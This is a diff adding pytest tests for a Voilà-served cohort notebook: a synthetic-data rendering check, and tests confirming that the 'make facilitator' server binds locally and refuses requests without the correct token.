+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """Executed as Voilà would with ?source=synthetic, the view shows a summary and no error."""
+    monkeypatch.setenv("QUERY_STRING", "source=synthetic&size=30&lang=en")
+    notebook = nbformat.read(NOTEBOOK, as_version=4)
+    notebook.cells.append(
+        nbformat.v4.new_code_cell(
+            "import json\n"
+            "print(json.dumps({'participants': view.summary.participants,"
+            " 'synthetic': view.summary.synthetic, 'figures': sorted(view.figures)}))"
+        )
+    )
+    NotebookClient(
+        notebook,
+        timeout=180,
+        kernel_name="python3",
+        resources={"metadata": {"path": str(NOTEBOOK.parent)}},
+    ).execute()
+    outputs = [o for cell in notebook.cells for o in cell.get("outputs", [])]
+    assert not [o for o in outputs if o.get("output_type") == "error"]
+    printed = "".join(o.get("text", "") for o in outputs if o.get("output_type") == "stream")
+    assert json.loads(printed.strip().splitlines()[-1]) == {
+        "participants": 30,
+        "synthetic": True,
+        "figures": ["facets", "indices", "survey"],
+    }
+
+
+def facilitator_command(port: int) -> tuple[list[str], dict[str, str]]:
+    """The `make facilitator` recipe, as an argument list and its environment."""
+    lines = (ROOT / "Makefile").read_text(encoding="utf-8").splitlines()
+    start = next(i for i, line in enumerate(lines) if line.startswith("facilitator:"))
+    recipe = []
+    for line in lines[start + 1 :]:
+        if not line.startswith("\t"):
+            break
+        recipe.append(line.strip().removesuffix("\\").strip())
+    command = (
+        " ".join(recipe)
+        .replace("$(CURDIR)", str(ROOT))
+        .replace("$(BIN)", str(Path(sys.executable).parent))
+        .replace("$(FACILITATOR_PORT)", str(port))
+    )
+    words = shlex.split(command)
+    environment = dict(os.environ)
+    while "=" in words[0] and not words[0].startswith("-"):
+        name, value = words.pop(0).split("=", 1)
+        environment[name] = value
+    return words, environment
+
+
+def free_port() -> int:
+    with socket.socket() as probe:
+        probe.bind(("127.0.0.1", 0))
+        return int(probe.getsockname()[1])
+
+
+def get(port: int, path: str, headers: dict[str, str] | None = None) -> tuple[int, str, str]:
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=180)
+    try:
+        connection.request("GET", path, headers=headers or {})
+        response = connection.getresponse()
+        body = response.read().decode("utf-8", "replace")
+        return response.status, response.getheader("Location") or "", body
+    finally:
+        connection.close()
+
+
+def test_the_make_target_serves_the_notebook_locally_with_a_token() -> None:
+    """`make facilitator` runs Voilà on 127.0.0.1:8867 with a token, its own port, no retries."""
+    words, environment = facilitator_command(8867)
+    assert words[1] == "facilitator/cohort.ipynb"
+    assert "--token" in words and "--Voila.ip=127.0.0.1" in words
+    assert "--port=8867" in words and "--Voila.port_retries=0" in words
+    assert environment["JUPYTER_PATH"] == str(ROOT / "share" / "jupyter")
+
+
+@pytest.mark.slow
+def test_the_facilitator_server_refuses_requests_without_the_token() -> None:
+    """A real Voilà from the make recipe: no token or a wrong one is sent to the login page
+    (the kernel API is refused too); the right token gets the page with the view."""
+    port = free_port()
+    words, environment = facilitator_command(port)
+    token = secrets.token_hex(24)
+    environment["JUPYTER_TOKEN"] = token
+    environment.pop("QUERY_STRING", None)
+    server = subprocess.Popen(
+        words,
+        cwd=ROOT,
+        env=environment,
+        stdout=subprocess.PIPE,
+        stderr=subprocess.STDOUT,
+        text=True,
+    )
+    lines: queue.Queue[str] = queue.Queue()
+
+    def pump() -> None:
+        assert server.stdout is not None
+        for line in server.stdout:
+            lines.put(line)
+        lines.put("")
+
+    threading.Thread(target=pump, daemon=True).start()
+    log: list[str] = []
+    try:
+        deadline = datetime.datetime.now() + datetime.timedelta(seconds=120)
+        while True:
+            remaining = (deadline - datetime.datetime.now()).total_seconds()
+            assert remaining > 0, "Voilà did not start:\n" + "".join(log)
+            line = lines.get(timeout=remaining)
+            log.append(line)
+            assert line, "Voilà stopped:\n" + "".join(log)
+            if "running at" in line:
+                break
+        assert token not in "".join(log), "the token must not be logged"
+
+        status, location, body = get(port, "/")
+        assert status in (302, 403) and "/login" in location
+        assert "widget-view" not in body
+        status, location, _ = get(port, "/?token=" + secrets.token_hex(24))
+        assert status in (302, 403)
+        status, _, _ = get(port, "/api/kernels")
+        assert status in (302, 403)
+        status, _, _ = get(port, "/voila/render/cohort.ipynb")
+        assert status in (302, 403, 404)
+
+        status, _, body = get(port, "/?token=" + token)
+        assert status == 200
+        assert "application/vnd.jupyter.widget-view+json" in body
+        assert "Traceback" not in body
+        status, _, body = get(port, "/", headers={"Authorization": f"token {token}"})
+        assert status == 200
+    finally:
+        server.terminate()
+        try:
+            server.wait(timeout=30)
+        except subprocess.TimeoutExpired:  # pragma: no cover - only when shutdown hangs
+            server.kill()
+            server.wait(timeout=30)
